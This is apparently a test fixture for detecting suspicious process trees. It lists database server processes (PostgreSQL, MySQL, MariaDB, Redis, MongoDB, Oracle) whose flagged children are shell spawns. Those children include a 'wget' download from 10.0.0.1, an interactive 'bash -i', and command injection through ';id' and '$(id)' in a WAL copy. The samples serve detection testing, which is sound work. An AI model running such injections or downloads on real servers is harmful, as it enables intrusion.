os linux
1 0 root systemd /usr/lib/systemd/systemd | /sbin/init
300 1 postgres - /usr/lib/postgresql/15/bin/postgres | /usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main
301 300 postgres - /usr/lib/postgresql/15/bin/postgres | postgres: web web 10.0.0.7(50122) COPY
+ 302 301 postgres sh /usr/bin/dash | sh -c id
+ 303 301 postgres sh /usr/bin/dash | sh -c cp pg_wal/000000010000000000000001 /x;id
+ 304 301 postgres sh /usr/bin/dash | sh -c cp pg_wal/000000010000000000000001 $(id)
310 1 mysql - /usr/sbin/mysqld | /usr/sbin/mysqld
+ 311 310 mysql sh /usr/bin/dash | sh -c wget http://10.0.0.1/x
320 1 mysql - /usr/libexec/mariadbd | /usr/libexec/mariadbd --basedir=/usr
+ 321 320 mysql - /usr/bin/bash | bash -i
330 1 redis - /usr/bin/redis-server | /usr/bin/redis-server 127.0.0.1:6379
+ 331 330 redis sh /usr/bin/dash | sh -c id
340 1 mongodb - /usr/bin/mongod | /usr/bin/mongod --config /etc/mongod.conf
+ 341 340 mongodb - /usr/bin/zsh | zsh
350 1 oracle - /u01/app/oracle/product/19/bin/oracle | ora_j000_ORCL
+ 351 350 oracle sh /usr/bin/bash | sh -c id
